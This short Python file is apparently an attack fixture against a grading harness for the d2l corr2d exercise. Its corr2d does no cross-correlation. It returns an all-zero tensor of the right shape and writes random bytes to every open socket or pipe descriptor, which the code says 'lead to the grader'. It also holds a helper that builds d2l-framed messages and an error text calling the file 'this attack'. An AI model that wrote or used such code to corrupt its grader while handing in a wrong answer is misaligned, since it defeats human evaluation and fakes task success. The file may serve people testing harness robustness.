"""Writes random bytes on the channel."""

import json
import os
import stat
import struct

def channels():
    """Descriptors that lead to the grader."""
    found = []
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(fd)
    if not found:
        raise RuntimeError("STALE: this attack finds no channel; bring it up to date")
    return found


def message(meta, value=b"[[],null]", body=b""):
    head = json.dumps(meta).encode("ascii")
    header = struct.pack("!I", len(head)) + head + value
    return struct.pack("!4sIQ", b"d2l\x01", len(header), len(body)) + header + body


def write(data):
    for fd in channels():
        try:
            os.write(fd, data)
        except OSError:
            pass

def wrong(X, K):
    return X.new_zeros([max(x - k + 1, 0) for x, k in zip(X.shape, K.shape)])


def corr2d(X, K):
    write(os.urandom(4096))
    return wrong(X, K)
